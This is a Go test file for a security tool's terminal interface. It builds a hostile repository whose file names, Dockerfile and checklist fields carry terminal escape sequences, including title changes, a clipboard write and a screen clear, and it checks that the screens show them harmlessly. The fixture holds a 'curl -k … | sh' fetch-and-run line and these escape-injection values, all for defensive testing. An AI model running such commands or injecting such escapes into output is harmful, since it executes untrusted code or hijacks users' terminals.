package tui

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/secfirst-dev/secfirst/internal/gittest"
	"github.com/secfirst-dev/secfirst/tui/common"
	"github.com/secfirst-dev/secfirst/tui/state"
)

// titleChange is what a hostile repository writes into names and text: an
// OSC sequence that sets the terminal window's title, ended by BEL.
const titleChange = "\x1b]0;pwned\x07"

// hostileRepo is a repository whose folder, file names, file content and
// checklist all carry terminal escapes: a leaked token in a file named
// with one, a Dockerfile whose lines hold them, a checklist note, title and
// owner with them.
func hostileRepo(t *testing.T) (*gittest.Repo, string) {
	t.Helper()
	parent := t.TempDir()
	dir := filepath.Join(parent, "demo"+titleChange)
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	r := gittest.New(t)
	r.Dir = dir
	r.Git("init", "-q", "-b", "main")
	r.Git("config", "user.name", "Ada Tester")
	r.Git("config", "user.email", "ada@example.com")
	tok := gittest.FakeGitHubToken()
	r.Write("config/"+titleChange+".env", "GITHUB_TOKEN="+tok+"\n")
	r.Write("Dockerfile", "FROM ubuntu:latest"+titleChange+"\nRUN curl -k https://example.org/x"+titleChange+" | sh\n")
	r.Write(".secfirst/checklist.yaml", `version: 1
items:
  - id: mfa-enforced
    title: "MFA`+`\x1b[2J`+` is enforced"
    category: identity-and-access
    lesson: mfa
    kind: manual
    status: pass
    owner: "ops`+`\x1b]52;c;aGk=\x07`+`"
    note: "checked`+`\x1b]0;pwned\x07`+` in Okta"
    reviewed_by: "Mallory`+`\x1b[31m`+` <m@example.com>"
    reviewed_at: 2025-03-01
`)
	r.Commit("hostile")
	return r, tok
}

// hostileCommon is testCommon for the hostile repository, named as the
// program names any repository: after its folder.
func hostileCommon(t *testing.T, r *gittest.Repo) *common.Common {
	c := testCommon(t, r)
	c.Repo = common.RepoFromRoot(r.Dir, "")
	return c
}

// assertNoEscape fails when the screen holds a control byte other than a
// newline: with colour off, every ESC or BEL on it came from the data.
func assertNoEscape(t *testing.T, where, view string) {
	t.Helper()
	for _, b := range []string{"\x1b", "\x07", "\x9b", "\x9d"} {
		if strings.Contains(view, b) {
			t.Fatalf("%s: the screen writes %q from the repository to the terminal:\n%q", where, b, view)
		}
	}
}

// No byte of a repository can drive the terminal through the TUI: file
// names, code lines, messages, the folder's name, checklist titles, notes,
// owners and reviewers are shown with their control bytes made visible
// (\x1b), on every screen they reach.
func TestHostileRepositoryCannotDriveTheTerminal(t *testing.T) {
	r, tok := hostileRepo(t)
	visible := `\x1b]0;pwned\x07`

	s := start(t, hostileCommon(t, r), common.ScreenDashboard, false)
	s.waitFor("Last scan", "Checklist")
	s.key("s")
	s.settle()
	s.waitFor("Found ")
	var list, detail, warnings string
	list = s.view()
	// Every finding's detail, one after the other.
	for range 12 {
		s.key("j")
		detail += s.view()
	}
	s.key("w")
	warnings = s.view()
	s.key("w")
	s.key("esc")
	s.waitFor("Dashboard")
	dashboard := s.finish()
	for where, view := range map[string]string{"findings list": list, "finding details": detail, "warnings": warnings, "dashboard": dashboard} {
		assertNoEscape(t, where, view)
		assertNoSecret(t, view, tok)
	}
	if !strings.Contains(detail, "config/"+visible+".env") || !strings.Contains(dashboard, "demo"+visible) {
		t.Fatalf("the file and the folder are not shown with their escapes made visible:\n%s\n%s", detail, dashboard)
	}

	c := hostileCommon(t, r)
	if err := c.State.SaveOnboarding(state.Onboarding{Step: "scan", Done: []string{"welcome", "hook"}}); err != nil {
		t.Fatal(err)
	}
	s = start(t, c, common.ScreenOnboarding, true)
	s.waitFor("would block a commit")
	assertNoEscape(t, "onboarding's first scan", s.finish())

	s = start(t, hostileCommon(t, r), common.ScreenChecklist, true)
	s.waitFor("MFA")
	s.key("e") // the note, in the input, as it would be edited
	s.waitFor("Write the note")
	var editing string
	editing = s.view()
	s.key("esc")
	review := s.finish()
	assertNoEscape(t, "checklist review", review)
	assertNoEscape(t, "checklist note input", editing)
	if !strings.Contains(review, `checked\x1b]0;pwned\x07 in Okta`) {
		t.Fatalf("the note is not shown with its escapes made visible:\n%s", review)
	}

	s = start(t, hostileCommon(t, r), common.ScreenDashboard, false)
	s.waitFor("Last scan")
	s.key("i")
	s.waitFor("applies this plan")
	assertNoEscape(t, "hooks plan", s.finish())
}

// The net under the screens: whatever a screen forgets to make safe, the
// program's view keeps only colours and styles (SGR) and newlines.
func TestTerminalSafeKeepsStylesOnly(t *testing.T) {
	in := "\x1b[1;38;5;212mbold\x1b[0m\n" + titleChange + "x\x1b[2Jy\x1b[H\tz\u202eevil\x1b]52;c;aGk=\x07"
	got := terminalSafe(in)
	want := "\x1b[1;38;5;212mbold\x1b[0m\n" + `\x1b]0;pwned\x07` + `x\x1b[2Jy\x1b[H` + "\tz" + `\u202eevil\x1b]52;c;aGk=\x07`
	if got != want {
		t.Fatalf("terminalSafe:\n got %q\nwant %q", got, want)
	}
	if plain := "plain text\nline two"; terminalSafe(plain) != plain {
		t.Fatal("plain text changed")
	}
}
